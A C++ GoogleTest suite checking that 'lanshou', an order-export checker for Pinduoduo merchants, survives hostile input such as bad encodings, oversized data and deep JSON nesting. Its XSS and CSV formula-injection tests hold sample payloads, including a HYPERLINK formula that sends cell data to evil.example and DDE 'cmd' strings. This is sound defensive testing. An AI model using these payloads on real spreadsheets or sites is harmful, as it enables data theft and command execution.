// Hostile input: whatever a merchant (or a page they copied from) pastes, lanshou answers with a
// correct result or a clear Chinese error, keeps the other rows, and never crashes or hangs.
// Runs natively, under ASan + UBSan (build/asan) and as wasm under node: no filesystem, every big
// input is generated in memory, and each test stays fast (linear time is the bench's job).
// Crashes the fuzzers found are the Regression.* tests at the end (inputs in
// tests/fuzz/regressions).
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <string>
#include <string_view>
#include <vector>

#include "lanshou/check.h"
#include "lanshou/input.h"
#include "lanshou/rules.h"
#include "lanshou/text.h"
#include "lanshou/time.h"
#include "lanshou/trace.h"
#include "lanshou/wording.h"

namespace lanshou {
namespace {

using nlohmann::json;

constexpr Epoch kNow = 1741752000;  // 2025-03-12T12:00:00+08:00
constexpr std::string_view kHeader =
    "订单号,订单状态,支付时间,承诺发货时间,发货时间,快递单号,快递公司\n";
// A good row the hostile rows sit next to: pickup window passed 2025-03-11 12:00, no trace pasted
// (pickup_unverified).
constexpr std::string_view kGood =
    "250310-512000000000081,已发货，待签收,2025-03-10 08:00:00,2025-03-12 08:00:00,"
    "2025-03-10 12:00:00,JT0000000000081,极兔速递\n";

std::string run(std::string_view input, OutputFormat format = OutputFormat::kJson,
                std::string rules = "", std::size_t max_bytes = 64u << 20) {
  CheckOptions o;
  o.now = kNow;
  o.format = format;
  o.rules_override_json = std::move(rules);
  o.max_input_bytes = max_bytes;
  return check(input, o).text;
}

json doc(std::string_view input, std::string rules = "") {
  const std::string text = run(input, OutputFormat::kJson, std::move(rules));
  EXPECT_TRUE(is_valid_utf8(text));
  return json::parse(text);
}

// The good row came through untouched.
void expect_good_row(const json& d) {
  bool found = false;
  for (const auto& o : d["orders"]) {
    if (o.value("order_sn", "") != "250310-512000000000081") continue;
    found = true;
    EXPECT_EQ(o["status"], "pickup_unverified");
    EXPECT_EQ(o["deadline"], "2025-03-11T12:00:00+08:00");
    EXPECT_EQ(o["tracking_no"], "JT0000000000081");
  }
  EXPECT_TRUE(found) << d.dump().substr(0, 2000);
}

std::vector<std::string> codes(const json& d) {
  std::vector<std::string> out;
  for (const auto& e : d["errors"]) out.push_back(e["code"]);
  return out;
}

const json* error_with(const json& d, std::string_view code) {
  for (const auto& e : d["errors"]) {
    if (e["code"] == code) return &e;
  }
  return nullptr;
}

// Every output format answers with valid UTF-8 text; returns the JSON document.
json all_formats(std::string_view input) {
  for (auto f : {OutputFormat::kTable, OutputFormat::kCsv}) {
    const std::string t = run(input, f);
    EXPECT_FALSE(t.empty());
    EXPECT_TRUE(is_valid_utf8(t));
  }
  return doc(input);
}

// RFC 4180 cells of a CSV document (the writer's own output).
std::vector<std::vector<std::string>> csv_rows(std::string_view s) {
  if (s.substr(0, 3) == "\xEF\xBB\xBF") s.remove_prefix(3);
  std::vector<std::vector<std::string>> rows(1);
  std::string cell;
  bool quoted = false;
  for (std::size_t i = 0; i < s.size(); ++i) {
    const char c = s[i];
    if (quoted) {
      if (c == '"' && i + 1 < s.size() && s[i + 1] == '"') {
        cell += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        cell += c;
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().push_back(std::move(cell));
      cell.clear();
    } else if (c == '\n' || c == '\r') {
      if (c == '\r' && i + 1 < s.size() && s[i + 1] == '\n') ++i;
      rows.back().push_back(std::move(cell));
      cell.clear();
      rows.emplace_back();
    } else {
      cell += c;
    }
  }
  if (!cell.empty() || !rows.back().empty()) rows.back().push_back(cell);
  if (rows.back().empty()) rows.pop_back();
  return rows;
}

std::string csv_quoted(std::string_view s) {
  std::string q = "\"";
  for (char c : s) q += c == '"' ? std::string("\"\"") : std::string(1, c);
  return q + "\"";
}

// --- Bytes --------------------------------------------------------------------------------

// A sheet where every row carries the same placeholder number: each order is told, and the
// message is made once per number (it was made per order from the whole group, which took
// minutes at 20,000 here: the compact path, the order detail and the CLI's stream all go this way).
TEST(Hostile, FiveThousandOrdersOnOnePlaceholderNumber) {
  std::string text(kHeader);
  for (int i = 0; i < 5000; ++i) {
    text += "250310-5120000" + std::to_string(10000000 + i) +
            ",已发货，待签收,2025-03-10 08:00:00,2025-03-12 08:00:00,2025-03-10 12:00:00,"
            "JT0000000000000,极兔速递\n";
  }
  CheckOptions o;
  o.now = kNow;
  std::string streamed;
  check_json_streamed(text, o, [&](std::string_view part) { streamed += part; });
  const json d = json::parse(streamed);
  ASSERT_EQ(d["orders"].size(), 5000u);
  const std::string expected =
      "单号「JT0000000000000」同时用于 5000 个订单（250310-512000010000000、"
      "250310-512000010000001、250310-512000010000002、250310-512000010000003、"
      "250310-512000010000004 等）：一个单号对应多个订单会被判虚假发货；"
      "如是同一买家同一地址的合并发货，可忽略";
  for (const std::size_t i : {std::size_t{0}, std::size_t{2345}, std::size_t{4999}}) {
    bool found = false;
    for (const auto& f : d["orders"][i]["findings"]) {
      if (f["code"] != "tracking_duplicate") continue;
      found = true;
      EXPECT_EQ(f["message"], expected);
    }
    EXPECT_TRUE(found) << i;
  }
}

TEST(Hostile, NulBytesInACellKeepTheRowsAndTheOutputs) {
  std::string input(kHeader);
  input += "250310-512000000000082,待";
  input += '\0';
  input += "发货,2025-03-10 08:00:00,2025-03-12 08:00:00,,,\n";
  input += kGood;
  ASSERT_NE(input.find('\0'), std::string::npos);
  const json d = all_formats(input);
  ASSERT_EQ(d["orders"].size(), 2u);
  EXPECT_EQ(d["orders"][0]["order_sn"], "250310-512000000000082");
  EXPECT_EQ(d["orders"][0]["status"], "ship_overdue");
  expect_good_row(d);
}

TEST(Hostile, EveryByteValueOnItsOwnLine) {
  std::string input(kHeader);
  input += kGood;
  input += '\n';
  for (int b = 0; b < 256; ++b) {
    input += static_cast<char>(b);
    input += "订单编号：\x01";
    input += static_cast<char>(b);
    input += '\n';
  }
  input += '\n';
  input += kHeader;
  input += kGood;
  const json d = all_formats(input);
  ASSERT_NE(error_with(d, "invalid_utf8"), nullptr);
  expect_good_row(d);
}

TEST(Hostile, InvalidUtf8IsReportedRepairedAndTheOtherRowsRead) {
  std::string input(kHeader);
  input += "250310-512000000000083,\xC3(,2025-03-10 08:00:00,2025-03-12 08:00:00,,,\xFF\xFE极兔\n";
  input += kGood;
  input += "250310-512000000000084,\xED\xA0\x80,2025-03-10 08:00:00,2025-03-12 08:00:00,,,\n";
  const json d = all_formats(input);
  const json* e = error_with(d, "invalid_utf8");
  ASSERT_NE(e, nullptr);
  EXPECT_EQ((*e)["line"], 2);
  EXPECT_EQ((*e)["field"], "");
  EXPECT_EQ((*e)["message"],
            "第 2 行起共 2 行含有无法识别的字符（不是 UTF-8 或 GBK 编码），已显示为 �；"
            "请核对这些行，或重新导出为 UTF-8 后再检查");
  ASSERT_EQ(d["orders"].size(), 3u);
  EXPECT_EQ(d["orders"][0]["order_sn"], "250310-512000000000083");
  EXPECT_EQ(d["orders"][0]["courier"]["declared"],
            "\xEF\xBF\xBD\xEF\xBF\xBD极兔");  // nothing dropped
  expect_good_row(d);
}

TEST(Hostile, ValidUtf8GivesNoEncodingError) {
  std::string input(kHeader);
  input += kGood;
  EXPECT_EQ(codes(doc(input)), std::vector<std::string>{});
}

TEST(Hostile, CrOnlyLineEndsReadLikeNewlines) {
  std::string lf(kHeader);
  lf += "250310-512000000000082,待发货,2025-03-10 08:00:00,2025-03-12 08:00:00,,,\n";
  lf += kGood;
  std::string cr = lf;
  for (char& c : cr) c = c == '\n' ? '\r' : c;
  std::string crlf;
  for (char c : lf) crlf += c == '\n' ? std::string("\r\n") : std::string(1, c);
  const json a = doc(lf), b = doc(cr), c = doc(crlf);
  EXPECT_EQ(a["orders"], b["orders"]);
  EXPECT_EQ(a["orders"], c["orders"]);
  EXPECT_EQ(a["orders"].size(), 2u);
  expect_good_row(b);
}

TEST(Hostile, UnclosedQuoteIsReportedOnceAndTheOtherRowsRead) {
  std::string input(kHeader);
  input += kGood;
  input += "250310-512000000000083,\"待发货,2025-03-10 08:00:00,2025-03-12 08:00:00,,,\n";
  input += "250310-512000000000084,待发货,2025-03-10 08:00:00,2025-03-12 08:00:00,,,\n";
  const json d = doc(input);
  ASSERT_EQ(codes(d), std::vector<std::string>{"unclosed_quote"});
  EXPECT_EQ(d["errors"][0]["line"], 3);
  EXPECT_EQ(d["errors"][0]["message"],
            "第 3 行有未闭合的引号（\"），已按普通文字读取该行及以后各行");
  ASSERT_EQ(d["orders"].size(), 3u);
  EXPECT_EQ(d["orders"][2]["order_sn"], "250310-512000000000084");
  EXPECT_EQ(d["orders"][2]["status"], "ship_overdue");
  expect_good_row(d);
}

TEST(Hostile, ManyTablesWithUnclosedQuotes) {
  std::string input;
  for (int i = 0; i < 2000; ++i) {
    input += kHeader;
    input += "250310-512000000000083,\"待发货\n\n";
  }
  input += kHeader;
  input += kGood;
  const json d = doc(input);
  expect_good_row(d);
}

// --- Size ---------------------------------------------------------------------------------

TEST(Hostile, TenMegabyteLineBetweenRows) {
  std::string input(kHeader);
  input += kGood;
  input += '\n';
  input.append(10u << 20, 'x');
  input += "\n\n";
  input += kHeader;
  input += "250310-512000000000082,待发货,2025-03-10 08:00:00,2025-03-12 08:00:00,,,\n";
  const json d = doc(input);
  ASSERT_EQ(d["orders"].size(), 2u);
  EXPECT_EQ(d["orders"][1]["order_sn"], "250310-512000000000082");
  EXPECT_EQ(d["summary"]["ignored_lines"], 1);
  expect_good_row(d);
}

TEST(Hostile, TenMegabyteCellIsKeptWhole) {
  std::string input("订单号,商品,支付时间,承诺发货时间\n250310-512000000000085,\"");
  input.append(10u << 20, 'y');
  input += "\",2025-03-10 08:00:00,2025-03-12 08:00:00\n";
  const json d = doc(input);
  ASSERT_EQ(d["orders"].size(), 1u);
  EXPECT_EQ(d["orders"][0]["status"], "ship_overdue");
}

TEST(Hostile, HundredThousandColumns) {
  std::string header = "订单号,快递单号,快递公司,发货时间";
  std::string row = "250310-512000000000081,JT0000000000081,极兔速递,2025-03-10 12:00:00";
  for (int i = 0; i < 100000; ++i) {
    header += ",列" + std::to_string(i);
    row += ",x";
  }
  const json d = doc(header + "\n" + row + "\n");
  ASSERT_EQ(d["orders"].size(), 1u);
  EXPECT_EQ(d["orders"][0]["status"], "pickup_unverified");
  EXPECT_EQ(d["orders"][0]["deadline"], "2025-03-11T12:00:00+08:00");
}

TEST(Hostile, InputOverTheLimitIsRefusedWithAMessage) {
  const std::string input((2u << 20) + 1, 'a');
  for (auto f : {OutputFormat::kJson, OutputFormat::kTable}) {
    const std::string t = run(input, f, "", 1u << 20);
    EXPECT_NE(t.find("输入内容有 2 MB，超过上限 1 MB；请分批检查"), std::string::npos) << t;
  }
  const json d = json::parse(run(input, OutputFormat::kJson, "", 1u << 20));
  ASSERT_EQ(codes(d), std::vector<std::string>{"input_too_large"});
  EXPECT_EQ(d["errors"][0]["line"], 0);
  EXPECT_EQ(d["orders"].size(), 0u);
  // At the limit exactly, the input is read.
  std::string at_limit(kHeader);
  at_limit += kGood;
  at_limit.append((1u << 20) - at_limit.size(), '\n');
  expect_good_row(json::parse(run(at_limit, OutputFormat::kJson, "", 1u << 20)));
}

// A refused input exported as CSV says why: the problems table after the (empty) orders.
TEST(Hostile, CsvSaysTheInputWasRefused) {
  const std::string t = run(std::string((2u << 20) + 1, 'a'), OutputFormat::kCsv, "", 1u << 20);
  EXPECT_NE(t.find("\r\n\r\n读取问题所在行,字段,问题代码,问题说明\r\n0,,input_too_large,"
                   "输入内容有 2 MB，超过上限 1 MB；请分批检查\r\n"),
            std::string::npos)
      << t;
}

TEST(Hostile, OptionsMaxInputMbIsChecked) {
  CheckOptions o;
  std::string error;
  EXPECT_FALSE(parse_options_json(R"({"max_input_mb": 0})", &o, &error));
  EXPECT_EQ(error, "选项 max_input_mb 应为 1 到 1024 之间的数字");
  EXPECT_FALSE(parse_options_json(R"({"max_input_mb": "64"})", &o, &error));
  EXPECT_FALSE(parse_options_json(R"({"max_input_mb": 1e308})", &o, &error));
  EXPECT_TRUE(parse_options_json(R"({"max_input_mb": 2})", &o, &error));
  EXPECT_EQ(o.max_input_bytes, 2u << 20);
}

// --- Text that means something elsewhere --------------------------------------------------

TEST(Hostile, EmojiAndRtlTextSurviveExactly) {
  const std::string courier = "极兔😀\u202E速递\u200F👨‍👩‍👧";
  std::string input(kHeader);
  input +=
      "250310-512000000000086,待发货🚚\u202E,2025-03-10 08:00:00,2025-03-12 08:00:00,"
      "2025-03-10 12:00:00,JT0000000000086," +
      courier + "\n";
  input += kGood;
  const json d = all_formats(input);
  ASSERT_EQ(d["orders"].size(), 2u);
  EXPECT_EQ(d["orders"][0]["courier"]["declared"], courier);
  expect_good_row(d);
}

TEST(Hostile, HtmlAndScriptPayloadsStayPlainText) {
  const std::string payloads[] = {"<script>alert(1)</script>",
                                  "<img src=x onerror=alert(1)>",
                                  "\"><svg onload=alert(1)>",
                                  "javascript:alert(1)",
                                  "{{constructor.constructor('alert(1)')()}}",
                                  "</textarea><b>x</b>"};
  for (const auto& p : payloads) {
    const std::string q = csv_quoted(p);
    std::string input("商品,订单号,订单状态,支付时间,承诺发货时间,快递单号,快递公司,商家备注\n");
    input += q + ",250310-512000000000087," + q + ",2025-03-10 08:00:00,2025-03-12 08:00:00,," + q +
             "," + q + "\n";
    std::string block = "订单编号：250309-512000000000301\n商品：" + p + "\n快递公司：" + p +
                        "\n运单号：" + p + "\n2025-03-10 19:47:55 " + p + " 已揽收\n\n";
    const json d = all_formats(input + "\n" + block + std::string(kHeader) + std::string(kGood));
    ASSERT_GE(d["orders"].size(), 3u) << p;
    EXPECT_EQ(d["orders"][0]["courier"]["declared"], p);
    expect_good_row(d);
    // The CSV carries it as one cell, unchanged (no formula sign to neutralise).
    const auto rows = csv_rows(run(input, OutputFormat::kCsv));
    ASSERT_GE(rows.size(), 2u);
    EXPECT_EQ(rows[1][2], p) << p;  // 商品
  }
}

TEST(Hostile, FormulaPayloadsAreNeutralisedInCsv) {
  const std::string payloads[] = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
                                  "+cmd|' /C calc'!A0",
                                  "-2+3+cmd|' /C calc'!A0",
                                  "@SUM(1+1)*cmd|' /C calc'!A0",
                                  "\t=1+1",
                                  "\r=1+1",
                                  "=1+1"};
  for (const auto& p : payloads) {
    std::string input(
        "商品,订单号,订单状态,支付时间,承诺发货时间,发货时间,快递单号,快递公司,商家备注\n");
    const std::string quoted = csv_quoted(p);
    input += quoted + ",250310-512000000000088," + quoted +
             ",2025-03-10 08:00:00,2025-03-12 08:00:00,2025-03-10 12:00:00," + quoted + "," +
             quoted + "," + quoted + "\n\n";
    input += kHeader;
    input += kGood;
    const std::string csv = run(input, OutputFormat::kCsv);
    const auto rows = csv_rows(csv);
    ASSERT_GE(rows.size(), 3u) << csv;
    for (std::size_t r = 1; r < rows.size(); ++r) {
      for (const auto& c : rows[r]) {
        const bool number = c.size() > 1 && c[0] == '-' && is_all_digits(c.substr(1));
        ASSERT_FALSE(!c.empty() && !number &&
                     (c[0] == '=' || c[0] == '+' || c[0] == '-' || c[0] == '@' || c[0] == '\t' ||
                      c[0] == '\r'))
            << "formula cell: " << c << "\n"
            << csv;
      }
    }
    // The JSON keeps the payload as the merchant wrote it (trimmed like every cell).
    const json d = doc(input);
    expect_good_row(d);
  }
}

// --- Times --------------------------------------------------------------------------------

TEST(Hostile, TimesOutOfRangeAreReportedAndTheOtherRowsRead) {
  const std::string bad[] = {"1900-03-10 08:00:00", "2100-03-10 08:00:00", "2025-03-10 24:00:00",
                             "2025-02-30 08:00:00", "2025-13-01 08:00:00", "2025-03-10 23:60:00",
                             "2024-02-30 00:00:00", "9999-12-31 23:59:59"};
  for (const auto& t : bad) {
    EXPECT_EQ(parse_time(t).status, TimeStatus::kOutOfRange) << t;
    std::string input(kHeader);
    input += "250310-512000000000089,待发货," + t + ",,,,\n";
    input += kGood;
    const json d = doc(input);
    const json* e = error_with(d, "time_out_of_range");
    ASSERT_NE(e, nullptr) << t;
    EXPECT_EQ((*e)["line"], 2);
    EXPECT_EQ((*e)["field"], "支付时间");
    EXPECT_EQ((*e)["message"], "第 2 行「支付时间」的值「" + t +
                                   "」无法读取：时间不存在（月份、日期或时刻超出范围，年份须在 "
                                   "2000–2099 之间）");
    expect_good_row(d);
  }
  // The edges that exist.
  EXPECT_TRUE(parse_time("2024-02-29 23:59:59").ok());
  EXPECT_TRUE(parse_time("2000-01-01 00:00:00").ok());
  EXPECT_TRUE(parse_time("2099-12-31 23:59:59").ok());
}

TEST(Hostile, TraceLineTimesOutOfRange) {
  const std::string input =
      "订单编号：250309-512000000000301\n发货时间：2025-03-10 09:15:40\n"
      "2025-02-30 19:47:55 已揽收\n2025-03-10 19:47:55 【义乌稠城】 已揽收\n";
  const json d = doc(input);
  const json* e = error_with(d, "time_out_of_range");
  ASSERT_NE(e, nullptr);
  EXPECT_EQ((*e)["line"], 3);
  EXPECT_EQ((*e)["field"], "物流轨迹");
  ASSERT_EQ(d["orders"].size(), 1u);
  EXPECT_EQ(d["orders"][0]["times"]["picked_up"], "2025-03-10T19:47:55+08:00");
}

// --- JSON ---------------------------------------------------------------------------------

TEST(Hostile, DeeplyNestedJsonPasteIsRefusedWithoutRecursion) {
  for (const std::string& open : {std::string("["), std::string("{\"data\":")}) {
    std::string input;
    for (int i = 0; i < 100000; ++i) input += open;
    input += "1";
    input.append(100000, open == "[" ? ']' : '}');
    const json d = doc(input);
    const json* e = error_with(d, "json_unreadable");
    ASSERT_NE(e, nullptr);
    EXPECT_EQ((*e)["message"], "第 1 行起的 JSON 嵌套超过 64 层，不是拼多多订单或物流数据，未读取");
    EXPECT_EQ(d["orders"].size(), 0u);
  }
}

TEST(Hostile, EnormousAggregatorJsonIsRead) {
  std::string input =
      R"({"message":"ok","nu":"75124400000301","com":"zhongtong","state":"0","data":[)";
  for (int i = 0; i < 20000; ++i) {
    if (i) input += ',';
    input += R"({"time":"2025-03-10 19:47:55","context":"【义乌稠城】 已揽收"})";
  }
  input += "]}";
  const json d = doc(input);
  ASSERT_EQ(d["orders"].size(), 1u);
  EXPECT_EQ(d["orders"][0]["tracking_no"], "75124400000301");
  EXPECT_EQ(d["orders"][0]["times"]["picked_up"], "2025-03-10T19:47:55+08:00");
}

TEST(Hostile, BrokenJsonPasteFallsBackToLines) {
  std::string input = "{\"message\":\"ok\",\"data\":[\n";
  input += kHeader;
  input += kGood;
  const json d = doc(input);
  expect_good_row(d);
}

// --- Rule overrides -----------------------------------------------------------------------

TEST(Hostile, MalformedRuleOverridesKeepTheDefaults) {
  struct Case {
    std::string rules, field, message;
  };
  const std::string deep = std::string(100000, '[') + std::string(100000, ']');
  const std::string deep_value =
      "{\"pickup_window_hours\":" + std::string(100000, '[') + std::string(100000, ']') + "}";
  const Case cases[] = {
      {"not json", "", "规则覆盖不是有效的 JSON 对象，已使用默认规则"},
      {"[1]", "", "规则覆盖不是有效的 JSON 对象，已使用默认规则"},
      {"{\"pickup_window_hours\":", "", "规则覆盖不是有效的 JSON 对象，已使用默认规则"},
      {deep, "", "规则覆盖不是有效的 JSON 对象，已使用默认规则"},
      {R"({"pickup_window_hours":-5})", "pickup_window_hours",
       "规则覆盖「pickup_window_hours」的值应在 0 到 8784 小时（366 天）之间，已保留默认值"},
      {R"({"pickup_window_hours":1e308})", "pickup_window_hours",
       "规则覆盖「pickup_window_hours」的值应在 0 到 8784 小时（366 天）之间，已保留默认值"},
      {R"({"pickup_window_hours":"72"})", "pickup_window_hours",
       "规则覆盖「pickup_window_hours」的值应为数字，已保留默认值"},
      {R"({"pickup_window_hours":{"value":null}})", "pickup_window_hours",
       "规则覆盖「pickup_window_hours」的值应为数字，已保留默认值"},
      // Nested deeper than the JSON reader goes (256 levels): refused as a whole.
      {deep_value, "", "规则覆盖不是有效的 JSON 对象，已使用默认规则"},
      {R"({"<script>alert(1)</script>":1})", "<script>alert(1)</script>",
       "规则覆盖中的「<script>alert(1)</script>」不是已知的规则项，已忽略"},
  };
  std::string input(kHeader);
  input += kGood;
  for (const auto& c : cases) {
    const json d = doc(input, c.rules);
    const json* e = error_with(d, "rule_override_invalid");
    ASSERT_NE(e, nullptr) << c.rules.substr(0, 80);
    EXPECT_EQ((*e)["line"], 0);
    EXPECT_EQ((*e)["field"], c.field);
    EXPECT_EQ((*e)["message"], c.message);
    EXPECT_EQ(d["rules"]["overridden"], json::array());
    expect_good_row(d);  // the 24 h default still decides
  }
}

// {"rules": [[[… 100,000 deep]]]} once overflowed the native stack (SIGSEGV, found by this test):
// the JSON library used then recursed per level when writing "rules" again. The options reader
// refuses such nesting before parsing.
TEST(Hostile, DeeplyNestedRulesInTheOptionsDocumentAreRefused) {
  CheckOptions o;
  std::string error;
  const std::string options =
      "{\"rules\":" + std::string(100000, '[') + std::string(100000, ']') + "}";
  EXPECT_FALSE(parse_options_json(options, &o, &error));
  EXPECT_EQ(error, "选项的 JSON 嵌套过深（超过 64 层），无法读取");
}

// --- Wording ------------------------------------------------------------------------------

constexpr std::string_view kBlock =
    "订单编号：250309-512000000000301\n成团时间：2025-03-09 11:20:05\n"
    "承诺发货时间：2025-03-11 11:20:05\n发货时间：2025-03-10 09:15:40\n快递公司：中通快递\n"
    "运单号：75124400000301\n物流信息\n2025-03-10 09:15:41 商家已发货，等待揽收\n";

TEST(Hostile, WordingSlotsTakeHostileTextAsPlainText) {
  const std::string payloads[] = {"<script>alert(1)</script>", "=HYPERLINK(\"http://x\")",
                                  "极兔😀\u202E", std::string(100000, 'z'),
                                  std::string("\xFF\xC3(\0x", 5)};
  for (const auto& p : payloads) {
    WordingInput in;
    in.request.kind = "all";
    in.request.reason = "courier_overload";
    in.request.outlet_name = p;
    in.request.reason_detail = p;
    in.request.measures = p;
    in.request.new_pickup_time = p;
    in.request.now = kNow;
    WordingResult out;
    std::string error;
    ASSERT_TRUE(wording_for_input(kBlock, in, &out, &error)) << error;
    ASSERT_FALSE(out.wordings.empty());
    const std::string text = wording_result_json(out);
    ASSERT_TRUE(is_valid_utf8(text));
    const json d = json::parse(text);
    bool seen = false;
    for (const auto& w : d["wordings"]) {
      EXPECT_FALSE(w["text"].get<std::string>().empty());
      if (is_valid_utf8(p))
        seen = seen || w["text"].get<std::string>().find(p) != std::string::npos;
    }
    if (is_valid_utf8(p)) {
      EXPECT_TRUE(seen) << p.substr(0, 40);
    }
  }
}

TEST(Hostile, WordingRequestJsonMalformed) {
  const std::string cases[] = {
      "",
      "not json",
      "[1]",
      R"({"kind":1})",
      R"({"now":"2025-02-30 08:00:00"})",
      std::string(100000, '[') + std::string(100000, ']'),
      "{\"kind\":\"all\",\"rules\":" + std::string(100000, '{') + "}",
      "{\"kind\":\"all\",\"rules\":" + std::string(100000, '[') + std::string(100000, ']') + "}",
      "{\"kind\":\"all\",\"x\":" + std::string(100000, '[') + std::string(100000, ']') + "}"};
  for (const auto& c : cases) {
    WordingInput in;
    std::string error;
    if (!parse_wording_input_json(c, &in, &error)) {
      EXPECT_FALSE(error.empty()) << c.substr(0, 60);
      continue;
    }
    WordingResult out;
    error.clear();
    if (!wording_for_input(kBlock, in, &out, &error)) {
      EXPECT_FALSE(error.empty());
    }
  }
}

TEST(Hostile, WordingForHostileInputGivesAMessage) {
  const std::string inputs[] = {"", std::string("\0\0\0", 3), "<script>", std::string(kHeader),
                                std::string(100000, '[') + std::string(100000, ']')};
  for (const auto& input : inputs) {
    WordingInput in;
    in.request.kind = "all";
    WordingResult out;
    std::string error;
    EXPECT_FALSE(wording_for_input(input, in, &out, &error));
    EXPECT_FALSE(error.empty());
    EXPECT_TRUE(is_valid_utf8(error));
  }
}

// --- Regressions: crashes and hangs found by the fuzzers and the hostile suite -------------

// tests/fuzz/regressions/wording-deep-rules.json: parse_wording_input_json dumped a "rules"
// value nested 100,000 deep with the recursive dump() and overflowed the stack.
TEST(Regression, WordingRequestWithDeeplyNestedRulesIsRefused) {
  WordingInput in;
  std::string error;
  const std::string request =
      "{\"kind\":\"all\",\"rules\":" + std::string(100000, '[') + std::string(100000, ']') + "}";
  EXPECT_FALSE(parse_wording_input_json(request, &in, &error));
  EXPECT_EQ(error, "请求的 JSON 嵌套过深（超过 64 层），无法读取");
  std::string shallow = "{\"kind\":\"all\",\"rules\":{\"pickup_window_hours\":72}}";
  EXPECT_TRUE(parse_wording_input_json(shallow, &in, &error)) << error;
  EXPECT_EQ(in.rules_override_json, "{\"pickup_window_hours\":72}");
}

// tests/fuzz/regressions/input-many-columns.csv: the header reader looked for a repeated
// field by scanning every earlier column, quadratic in the number of columns (100,000 columns
// took 12 s natively). A flag per field now.
TEST(Regression, HeaderWithHundredThousandUnknownColumnsIsLinear) {
  std::string header = "订单号,快递单号";
  for (int i = 0; i < 100000; ++i) header += ",订单号";  // every repeat is ignored, flag only
  const std::string text = header + "\n250310-512000000000081,JT0000000000081\n";
  const ParsedInput in = read_input(text);  // views into text: it must outlive the result
  ASSERT_EQ(in.orders.size(), 1u);
  EXPECT_EQ(in.orders[0].get(Field::kTrackingNo), "JT0000000000081");
}

}  // namespace
}  // namespace lanshou

namespace lanshou {
namespace {

// Blank or short lines reserve no records: only a table header reserves, for the text after it.
TEST(Hostile, BlankAndShortLinesReserveNothing) {
  for (const std::string line : {"\n", "\r\n", "ab\n"}) {
    std::string text;
    for (int i = 0; i < (1 << 20) / static_cast<int>(line.size()); ++i) text += line;
    const ParsedInput in = read_input(text);
    EXPECT_TRUE(in.orders.empty());
    EXPECT_LT(in.orders.capacity(), 16u) << line.size();
  }
  // A table reserves about one record per header length of text after it (the rows as read: the
  // join makes the thousand copies of one order one record).
  std::string table = "订单号,快递单号,快递公司\n";
  for (int i = 0; i < 1000; ++i) table += "250311-512000000000101,75124400000101,中通快递\n";
  InputLimits rows;
  rows.join = false;
  const ParsedInput in = read_input(table, rows);
  EXPECT_EQ(in.orders.size(), 1000u);
  EXPECT_LE(in.orders.capacity(), 2000u);
}

}  // namespace
}  // namespace lanshou
